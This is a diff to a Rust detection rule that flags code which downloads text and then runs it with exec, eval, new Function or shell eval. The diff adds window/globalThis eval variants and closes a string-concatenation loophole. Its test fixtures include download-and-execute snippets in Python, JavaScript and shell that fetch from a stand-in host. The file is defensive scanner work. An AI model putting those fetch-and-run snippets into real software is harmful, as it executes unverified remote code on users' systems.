@@ -12,7 +12,7 @@ pub(crate) const RULE: Rule<'static> = Rule {
             note: "by an interpreter of Python or JavaScript",
             regex: r"\b(?:exec|eval|compile)[ \t]{0,4}\(|\bnew[ \t]{1,8}Function[ \t]{0,4}\(|\bvm\.runIn\w{1,16}\(|\b__import__[ \t]{0,4}\(",
             regions: Regions::of(&[Region::Code]),
-            exceptions: &[DOWNLOADED, NAMESAKE, Exception::After(r"^[ \t]*[\x22\x27]")],
+            exceptions: &[DOWNLOADED, NAMESAKE, LITERAL],
         },
         Pattern {
             note: "by a shell of what a variable holds",
@@ -20,12 +20,20 @@ pub(crate) const RULE: Rule<'static> = Rule {
             regions: Regions::of(&[Region::Code, Region::Shell, Region::InlineCode]),
             exceptions: &[DOWNLOADED],
         },
+        Pattern {
+            note: "by the same, named by what holds it",
+            regex: r"\b(?:window|globalThis|builtins|__builtins__)\.(?:exec|eval|compile|Function)[ \t]{0,4}\(",
+            regions: Regions::of(&[Region::Code]),
+            exceptions: &[DOWNLOADED, LITERAL],
+        },
     ],
     matches: &[
         "```python\nc = requests.get('https://e.example/x').text\nexec(c)\n```",
         "```js\nconst t = await (await fetch('https://e.example/x')).text();\neval(t);\n```",
         "```sh\nx=$(curl -s https://e.example/x)\neval \"$x\"\n```",
         "```python\ndef load(u):\n    return urllib.request.urlopen(u).read()\n\nexec(load(u))\n```",
+        "```python\nc = requests.get('https://e.example/x').text\nexec(\"\" + c)\n```",
+        "```js\nconst t = await (await fetch('https://e.example/x')).text();\nwindow.eval(t);\n```",
     ],
     clean: &[
         "```python\nr = requests.get(u).json()\nprint(r)\n```",
@@ -33,6 +41,9 @@ pub(crate) const RULE: Rule<'static> = Rule {
         "```sh\nx=$(curl -s https://api.example.com)\necho \"$x\"\n```",
     ],
 };
+
+/// A text that is written out, and nothing that is joined to it.
+const LITERAL: Exception<'static> = Exception::After(r"^[ \t]*(?:\x22[^\x22]*\x22|\x27[^\x27]*\x27)[ \t]*[,)]");
 
 /// Nothing that was downloaded is run.
 const DOWNLOADED: Exception<'static> = Exception::Without(Inflows::of(&[Inflow::Download]));
